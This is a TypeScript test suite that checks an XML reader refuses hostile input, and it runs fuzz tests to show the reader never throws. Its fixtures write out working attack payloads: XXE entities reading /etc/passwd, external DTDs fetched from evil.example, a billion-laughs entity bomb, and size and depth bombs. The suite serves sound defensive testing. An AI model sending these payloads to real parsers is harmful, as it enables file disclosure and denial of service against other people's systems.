import { Either } from "effect"
import * as fc from "fast-check"
import { describe, expect, it } from "vitest"
import type { XmlLimitName, XmlReadError } from "../src/XmlError.ts"
import { XSI_NS } from "../src/XmlNode.ts"
import * as XmlReader from "../src/XmlReader.ts"

const MiB = 1024 * 1024

const bytes = (...parts: ReadonlyArray<string | ReadonlyArray<number>>): Uint8Array => {
  const out: Array<number> = []
  for (const part of parts) {
    if (typeof part === "string") out.push(...new TextEncoder().encode(part))
    else out.push(...part)
  }
  return new Uint8Array(out)
}

interface Expected {
  readonly _tag: XmlReadError["_tag"]
  readonly limit?: XmlLimitName
  readonly construct?: "DOCTYPE" | "ENTITY"
}

interface Case {
  readonly name: string
  /** Built lazily, so only the running case holds its (possibly huge) input. */
  readonly input: () => string | Uint8Array
  readonly options?: XmlReader.ReadOptions
  readonly expected: Expected
  /** Where reading must have stopped at the latest: proof that a bomb was cut off early. */
  readonly stopsBy?: { readonly line?: number; readonly column?: number }
}

const syntax: Expected = { _tag: "XmlSyntaxError" }
const doctype: Expected = { _tag: "XmlForbiddenConstruct", construct: "DOCTYPE" }
const entity: Expected = { _tag: "XmlForbiddenConstruct", construct: "ENTITY" }
const encoding: Expected = { _tag: "XmlEncodingError" }
const limit = (name: XmlLimitName): Expected => ({ _tag: "XmlLimitExceeded", limit: name })

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`

const cases: ReadonlyArray<Case> = [
  // -- DOCTYPE and entities: refused on sight -------------------------------------
  {
    name: "XXE via SYSTEM entity",
    input: () => `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
    expected: doctype,
    stopsBy: { line: 1 }
  },
  {
    name: "XXE via PUBLIC external DTD",
    input: () => `<!DOCTYPE foo PUBLIC "-//Evil//DTD//EN" "http://evil.example/x.dtd"><foo>&ext;</foo>`,
    expected: doctype
  },
  { name: "billion laughs", input: () => billionLaughs, expected: doctype, stopsBy: { line: 13 } },
  {
    name: "quadratic blowup",
    input: () => `<!DOCTYPE r [<!ENTITY a "${"x".repeat(50_000)}">]><r>${"&a;".repeat(50_000)}</r>`,
    expected: doctype
  },
  {
    name: "DOCTYPE with an internal subset and no entities",
    input: () => `<!DOCTYPE r [<!ELEMENT r ANY><!ATTLIST r a CDATA "default">]><r/>`,
    expected: doctype
  },
  {
    name: "parameter entities",
    input: () => `<!DOCTYPE r [<!ENTITY % pe "<!ENTITY x 'y'>"> %pe;]><r>&x;</r>`,
    expected: doctype
  },
  {
    name: "external parameter entity",
    input: () => `<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/e.dtd"> %ext;]><r/>`,
    expected: doctype
  },
  { name: "bare DOCTYPE", input: () => `<!DOCTYPE r><r/>`, expected: doctype },
  { name: "DOCTYPE after the root element", input: () => `<r/><!DOCTYPE r>`, expected: doctype },
  { name: "undefined entity reference in text", input: () => `<r>&xxe;</r>`, expected: entity },
  { name: "undefined entity reference in an attribute", input: () => `<r a="&xxe;"/>`, expected: entity },
  {
    name: "entity named like an Object.prototype member",
    input: () => `<r>&constructor;&__proto__;</r>`,
    expected: entity
  },
  // -- limits ------------------------------------------------------------------------
  {
    name: "depth bomb of 100k levels",
    input: () => "<a>".repeat(100_000) + "</a>".repeat(100_000),
    expected: limit("maxDepth"),
    stopsBy: { column: 257 * 3 }
  },
  {
    name: "50 MB text node, over the default text limit",
    input: () => `<r>${"x".repeat(50 * MiB)}</r>`,
    expected: limit("maxTextLength"),
    stopsBy: { column: 16 * MiB + 64 * 1024 + 3 }
  },
  {
    name: "50 MB text node split by CDATA sections",
    input: () => `<r>${`${"x".repeat(MiB)}<![CDATA[y]]>`.repeat(50)}</r>`,
    expected: limit("maxTextLength"),
    stopsBy: { column: 17 * (MiB + 12) + 64 * 1024 }
  },
  {
    name: "1M attributes on one element",
    input: () => `<r${Array.from({ length: 1_000_000 }, (_, i) => ` a${i}=""`).join("")}/>`,
    expected: limit("maxAttributes"),
    stopsBy: { column: 257 * 8 }
  },
  {
    name: "namespace declaration flood",
    input: () => `<r${Array.from({ length: 10_000 }, (_, i) => ` xmlns:p${i}="urn:${i}"`).join("")}/>`,
    expected: limit("maxAttributes"),
    stopsBy: { column: 257 * 24 }
  },
  {
    name: "too many elements (configured limit)",
    input: () => `<r>${"<i/>".repeat(100_000)}</r>`,
    options: { limits: { maxElements: 1000 } },
    expected: limit("maxElements"),
    stopsBy: { column: 1001 * 4 }
  },
  {
    name: "string over the default maxBytes",
    input: () => `<r>${" ".repeat(64 * MiB)}</r>`,
    expected: limit("maxBytes"),
    stopsBy: { line: 1, column: 0 }
  },
  {
    name: "bytes over a configured maxBytes",
    input: () => new Uint8Array(4097).fill(0x20),
    options: { limits: { maxBytes: 4096 } },
    expected: limit("maxBytes"),
    stopsBy: { line: 1, column: 0 }
  },
  {
    name: "20 MB attribute value",
    input: () => `<r a="${"x".repeat(20 * MiB)}"/>`,
    expected: limit("maxTextLength"),
    stopsBy: { column: 16 * MiB + 64 * 1024 + 6 }
  },
  {
    name: "20 MB comment",
    input: () => `<r><!--${"x".repeat(20 * MiB)}--></r>`,
    expected: limit("maxTextLength"),
    stopsBy: { column: 16 * MiB + 64 * 1024 + 7 }
  },
  {
    name: "20 MB element name",
    input: () => `<${"a".repeat(20 * MiB)}/>`,
    expected: limit("maxTextLength"),
    stopsBy: { column: 16 * MiB + 64 * 1024 + 1 }
  },
  {
    name: "20 MB unterminated entity name",
    input: () => `<r>&${"a".repeat(20 * MiB)}</r>`,
    expected: limit("maxTextLength"),
    stopsBy: { column: 16 * MiB + 64 * 1024 + 4 }
  },
  // -- malformed documents -------------------------------------------------------------
  { name: "truncated document", input: () => `<?xml version="1.0"?><r><a>text`, expected: syntax },
  { name: "truncated inside a tag", input: () => `<r><a x="1`, expected: syntax },
  { name: "truncated inside CDATA", input: () => `<r><![CDATA[abc`, expected: syntax },
  { name: "mismatched tags", input: () => `<a><b></a></b>`, expected: syntax },
  { name: "close tag without an open one", input: () => `<a></a></b>`, expected: syntax },
  { name: "undeclared element prefix", input: () => `<p:r/>`, expected: syntax },
  { name: "undeclared attribute prefix", input: () => `<r p:a="1"/>`, expected: syntax },
  { name: "undeclared xsi:type prefix", input: () => `<r xmlns:xsi="${XSI_NS}" xsi:type="q:T"/>`, expected: syntax },
  {
    name: "undeclared prefix named like an Object.prototype member",
    input: () => `<constructor:r/>`,
    expected: syntax
  },
  {
    name: "undeclared xsi:type prefix named like an Object.prototype member",
    input: () => `<r xmlns:xsi="${XSI_NS}" xsi:type="__proto__:T"/>`,
    expected: syntax
  },
  { name: "xml prefix rebound", input: () => `<r xmlns:xml="urn:x"/>`, expected: syntax },
  { name: "element with the xmlns prefix", input: () => `<xmlns:r/>`, expected: syntax },
  { name: "two roots", input: () => `<a/><b/>`, expected: syntax },
  { name: "text after the root", input: () => `<a/>text`, expected: syntax },
  { name: "text before the root", input: () => `text<a/>`, expected: syntax },
  { name: "CDATA outside the root", input: () => `<a/><![CDATA[x]]>`, expected: syntax },
  { name: "empty input", input: () => ``, expected: syntax },
  { name: "empty bytes", input: () => new Uint8Array(0), expected: syntax },
  { name: "whitespace-only input", input: () => ` \n\t\r\n `, expected: syntax },
  { name: "BOM only", input: () => `\uFEFF`, expected: syntax },
  { name: "duplicate attributes", input: () => `<r a="1" a="2"/>`, expected: syntax },
  {
    name: "duplicate attributes through two prefixes of one namespace",
    input: () => `<r xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2"/>`,
    expected: syntax
  },
  { name: "< in an attribute value", input: () => `<r a="<b"/>`, expected: syntax },
  { name: "unquoted attribute value", input: () => `<r a=1/>`, expected: syntax },
  { name: "]]> in text", input: () => `<r>a]]>b</r>`, expected: syntax },
  { name: "NUL character reference", input: () => `<r>&#0;</r>`, expected: syntax },
  { name: "control character reference", input: () => `<r a="&#x1B;"/>`, expected: syntax },
  { name: "surrogate character reference", input: () => `<r>&#xD800;</r>`, expected: syntax },
  { name: "character reference beyond Unicode", input: () => `<r>&#x110000;</r>`, expected: syntax },
  { name: "control character in text", input: () => `<r>a\u0001b</r>`, expected: syntax },
  { name: "raw NUL in text", input: () => `<r>a\u0000b</r>`, expected: syntax },
  { name: "lone surrogate in text", input: () => `<r>a\uD800b</r>`, expected: syntax },
  {
    name: "processing instruction named xml mid-document",
    input: () => `<r><?xml version="1.0"?></r>`,
    expected: syntax
  },
  // -- encodings -------------------------------------------------------------------------
  { name: "invalid UTF-8 byte", input: () => bytes("<r>", [0xff], "</r>"), expected: encoding },
  { name: "overlong UTF-8 (2 bytes for /)", input: () => bytes("<r>", [0xc0, 0xaf], "</r>"), expected: encoding },
  { name: "overlong UTF-8 (3 bytes for /)", input: () => bytes("<r>", [0xe0, 0x80, 0xaf], "</r>"), expected: encoding },
  { name: "UTF-8 encoded surrogate", input: () => bytes("<r>", [0xed, 0xa0, 0x80], "</r>"), expected: encoding },
  { name: "truncated UTF-8 sequence", input: () => bytes("<r>", [0xe6, 0x97], "</r>"), expected: encoding },
  {
    name: "UTF-16LE with BOM",
    input: () => new Uint8Array([0xff, 0xfe, ...[..."<r/>"].flatMap((c) => [c.charCodeAt(0), 0])]),
    expected: encoding
  },
  {
    name: "UTF-16BE with BOM",
    input: () => new Uint8Array([0xfe, 0xff, ...[..."<r/>"].flatMap((c) => [0, c.charCodeAt(0)])]),
    expected: encoding
  },
  {
    name: "UTF-16LE without BOM",
    input: () => new Uint8Array([..."<r/>"].flatMap((c) => [c.charCodeAt(0), 0])),
    expected: encoding
  },
  {
    name: "declared Shift_JIS",
    input: () => bytes(`<?xml version="1.0" encoding="Shift_JIS"?><r/>`),
    expected: encoding
  },
  {
    name: "declared UTF-16 on single-byte input",
    input: () => bytes(`<?xml version="1.0" encoding="UTF-16"?><r/>`),
    expected: encoding
  },
  {
    name: "UTF-8 BOM contradicting a latin1 declaration",
    input: () => bytes([0xef, 0xbb, 0xbf], `<?xml version="1.0" encoding="ISO-8859-1"?><r/>`),
    expected: encoding
  },
  {
    name: "non-ASCII byte in declared US-ASCII",
    input: () => bytes(`<?xml version="1.0" encoding="US-ASCII"?><r>`, [0xf8], `</r>`),
    expected: encoding
  }
]

describe("XmlReader against hostile input", () => {
  it("has a substantial table", () => {
    expect(cases.length).toBeGreaterThanOrEqual(25)
  })

  for (const c of cases) {
    it(c.name, () => {
      const result = XmlReader.readSync(c.input(), c.options)
      expect(Either.isLeft(result), "must be refused").toBe(true)
      const error = (result as Either.Left<XmlReadError, unknown>).left
      expect(error).toMatchObject(c.expected)
      expect(error.line).toBeGreaterThanOrEqual(1)
      expect(error.column).toBeGreaterThanOrEqual(0)
      expect(error.message.length).toBeGreaterThan(0)
      if (c.stopsBy?.line !== undefined) expect(error.line).toBeLessThanOrEqual(c.stopsBy.line)
      if (c.stopsBy?.column !== undefined) expect(error.column).toBeLessThanOrEqual(c.stopsBy.column)
    })
  }
})

describe("XmlReader never throws", () => {
  const valid = `<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="urn:s" xmlns:xsi="${XSI_NS}"><s:Body a="1"><x xsi:type="s:T">t&amp;<![CDATA[c]]></x><y/></s:Body></s:Envelope>`

  it("on arbitrary strings", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (s) => {
        expect(Either.isEither(XmlReader.readSync(s))).toBe(true)
      }),
      { numRuns: 2000 }
    )
  })

  it("on arbitrary bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (b) => {
        expect(Either.isEither(XmlReader.readSync(b))).toBe(true)
      }),
      { numRuns: 2000 }
    )
  })

  it("on a valid document with random edits", () => {
    const edit = fc.record({
      at: fc.nat({ max: valid.length }),
      drop: fc.nat({ max: 5 }),
      insert: fc.string({ unit: fc.constantFrom(..."<>&;:/=\"'![]?x \u0000\uD800"), maxLength: 4 })
    })
    fc.assert(
      fc.property(fc.array(edit, { minLength: 1, maxLength: 4 }), (edits) => {
        let doc = valid
        for (const e of edits) doc = doc.slice(0, e.at) + e.insert + doc.slice(e.at + e.drop)
        const result = XmlReader.readSync(doc)
        expect(Either.isEither(result)).toBe(true)
        if (Either.isLeft(result)) expect(result.left.line).toBeGreaterThanOrEqual(1)
      }),
      { numRuns: 3000 }
    )
  })
})
